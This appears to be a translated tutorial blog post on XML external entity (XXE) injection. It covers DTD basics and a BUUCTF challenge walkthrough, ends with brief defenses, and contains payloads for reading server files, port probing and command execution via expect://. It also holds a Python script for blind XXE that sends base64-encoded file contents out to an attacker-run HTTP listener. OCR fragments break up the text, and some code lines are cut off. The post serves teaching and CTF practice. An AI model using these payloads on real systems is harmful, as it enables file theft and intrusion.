Xml external entity injection vulnerability

Posted by swasheck on Sun, 06 Feb 2022 07:54:16 +0100

Xml external entity injection vulnerability (XXE)

Xml introduction

  • XML is not a substitute for HTML.

  • XML and HTML are designed for different purposes:• XML is designed to transmit and store data, and its focus is the content of the data.

  • HTML is designed to display data, focusing on the appearance of the data.

  • HTML is designed to display information, while XML is designed to transmit information.

XML document structure includes: XML document declaration, DTD document type definition, document element Libxml is an XML document interpreter, libxml2 After 9.0, external entities are not parsed by default, resulting in the gradual disappearance of XXE vulnerability

<?xml version="1.0"?>   # xml declaration

<!DOCTYPE note SYSTEM "note.dtd">   # DTD document type definition

<from>John</from>                     # Document element
<body>Don't forget the meeting!</body>

Internal declaration DTD

<!DOCTYPE Root element [Element declaration]]>

Entities can be understood as defining variables, and entities can be declared internally or externally. Internal declaration is similar to directly defining variables, and external declaration entities are similar to introducing the contents of external files as the values of variables.

Internal declaration entity

  • <!ENTITY Entity name "Value of entity">
  • Examples

    <?xml version="1.0"?>
    <!DOCTYPE note [
      <!ENTITY writer "Bill Gates">
    <!ENTITY copyright "Copyright W3School.com.cn">

External declaration entity

  • <!ENTITY Entity name SYSTEM "URI/URL">
  • Support http, https, file and many other protocols• Examples

    <?xml version="1.0"?>
    <!DOCTYPE note [
    <!ENTITY writer SYSTEM "http://www.w3school.com.cn/dtd/entities.dtd">
    <!ENTITY copyright SYSTEM "http://www.w3school.com.cn/dtd/entities.dtd">

External declaration DTD

  • External declaration DTD is a DTD file directly imported from the outside. It should be clearly distinguished from external declaration entities

  • <!DOCTYPE Root element SYSTEM "file name">
  • Examples

    <?xml version="1.0"?>
    <!DOCTYPE note SYSTEM "note.dtd">
    <body>Don't forget the meeting!</body>

Vulnerability hazard

  1. Read any file from the server (File Protocol import)

    <!ENTITY writer SYSTEM "file:///flag">2. Probe intranet port

    <?xml version="1.0"?>
    <!DOCTYPE user [
    <!ENTITY writer SYSTEM "http:/ip:port/xxx">

    In php, you can use simplexml_ load_ The echo of string function error can judge the opening of the port through the response time (if the target system does not process it)

  3. Execute system commands (certain conditions are required, and different languages execute in different ways)

    install expect Extended PHP System commands can also be executed directly in the environment
     implement ifconfig command
    <?xml version="1.0"?><!DOCTYPE xxe [
    <!ELEMENT name ANY >
    <!ENTITY XXE SYSTEM "expect://ifconfig" >]>
  4. Attack intranet websites (vulnerabilities in other intranet websites are required)

Buuctf ctf title

[NCTF2019]Fake XML cookbook

Try to log in and capture packets through burpsuit

Accept: application/xml, text/xml, /; q=0.01
X-Requested-With: XMLHttpRequest
Moreover, the content submitted by post is in xml format --- > there may be an xml external entity injection vulnerability

Tentative injection

<?xml version="1.0"?>
<!DOCTYPE user [<!ENTITY writer "test">

It is found that the test injection is successful --- it is judged that there is a vulnerability --- > because it is a ctf problem, we need to get the flag --- > read the local flag file

The file path read here is / flag (because many ctf questions will put the flag here)

python detection xxe

xxe with echo is very convenient to judge (such as the above ctf question), but it is a little cumbersome to judge xxe without echo. Use python source code for security detection

from http.server import HTTPServer,SimpleHTTPRequestHandler
import threading
import requests
import sys

# Native log_ The message function is rewritten to save the result to a file while outputting the result
class MyHandler(SimpleHTTPRequestHandler):
    def log_message(self, format, *args):
        # The terminal outputs HTTP access informationsys.stderr.write("%s - - [%s] %s\n" %
        # Save information to file
        textFile = open("result.txt", "a")
        textFile.write("%s - - [%s] %s\n" %

# Open HTTP service and receive data
def StartHTTP(lip,lport):
    # IP address and port of HTTP listening
    serverAddr = (lip, lport)
    httpd = HTTPServer(serverAddr, MyHandler)
    print("[*] Opening HTTP The server:\n\n===\nIP address:{0}\n port:{1}\n===\n".format(lip, lport))

# Create attack code file
def ExportPayload(lip,lport):
    file = open('evil.xml','w')
    file.write("<!ENTITY % payload \"<!ENTITY % send SYSTEM 'http://{0}:{1}/?content=%file;'>\"> %payload;".format(lip, lport))
    print("[*] Payload File created successfully!")

#Send attack data through POST
def SendData(lip, lport, url):
    # Path of the file to beread (default)
    filePath = "c:\\test.txt"
    while True:
        # Replacement of slash in file path of user input
        filePath = filePath.replace('\\', "/")
        data = "<?xml version=\"1.0\"?>\n<!DOCTYPE test[\n<!ENTITY % file SYSTEM \"php://filter/read=convert.base64-encode/resource={0}\">\n<!ENTITY % dtd SYSTEM \"http://{1}:{2}/evil.xml\">\n%dtd;\n%send;\n]>".format(filePath, lip, lport)
        requests.post(url, data=data)
        # Continue to receive user input and read the specified file
        filePath = input("Input filePath:")if __name__ == '__main__':
    #Native IP
    lip = ""
    #Native HTTP listening port
    lport = 3344
    #URL of the form submitted by the target site
    url = ""
    # Create a payload file
    ExportPayload(lip, lport)
    # HTTP service thread
    threadHTTP = threading.Thread(target=StartHTTP,args=(lip, lport))
    # Send POST data thread
    threadPOST = threading.Thread(target=SendData,args=(lip, lport, url))

The shooting range can choose xxE lab
Dologin. In xxE lab PHP does the following

  • Comment out echo $result in the last line;• Add errer_report(0);

In this way, no output and no error will be reported, which becomes an echo free xxe vulnerability

Defense strategy

  1. Resolution of external entities is prohibited by default
  2. Filter the XML data submitted by users, such askeyword <! DOCTYPE and <! Entity or SYSTEM and PUBLIC.
  3. Disable related functions in the programming language corresponding to the website